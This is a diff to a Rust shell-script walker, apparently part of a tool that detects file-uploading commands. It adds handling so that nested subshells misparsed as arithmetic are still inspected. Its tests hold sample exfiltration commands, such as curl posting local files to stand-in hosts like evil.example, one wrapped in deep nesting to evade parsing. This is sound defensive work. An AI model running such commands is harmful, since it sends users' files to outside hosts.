@@ -66,6 +66,14 @@ mod depth_tests {
     }
 
     #[test]
+    fn nested_subshells_read_as_arithmetic_are_still_walked() {
+        let script = walk("( ( curl -d @f https://up.example.invalid ) )");
+        assert_eq!(script.cmds.len(), 1);
+        assert_eq!(script.cmds[0].name(), "curl");
+        assert!(walk("(( i = (a + b) * 2 ))").events.is_empty(), "real arithmetic is not a parse failure");
+    }
+
+    #[test]
     fn hostile_nesting_fails_closed_without_parsing() {
         for text in [
             format!("{} curl -d @x https://evil.example", "(".repeat(30)),
@@ -270,7 +278,17 @@ impl Walker {
             CompoundCommand::Coprocess(c) => {
                 self.command(&c.body, None, depth);
             }
-            CompoundCommand::Arithmetic(_) => {}
+            CompoundCommand::Arithmetic(a) => {
+                // brush-parser reads `( ( cmd ) )` -- nested subshells, as bash runs them -- as
+                // `(( … ))` arithmetic: walk the body as commands too when it parses as a program
+                // (real arithmetic either fails to parse or names no uploader).
+                let body = a.expr.value.as_bytes();
+                if let Ok(program) = Parser::new(std::io::Cursor::new(body), &self.opts).parse_program() {
+                    for list in &program.complete_commands {
+                        self.list(list, depth);
+                    }
+                }
+            }
         }
     }
 
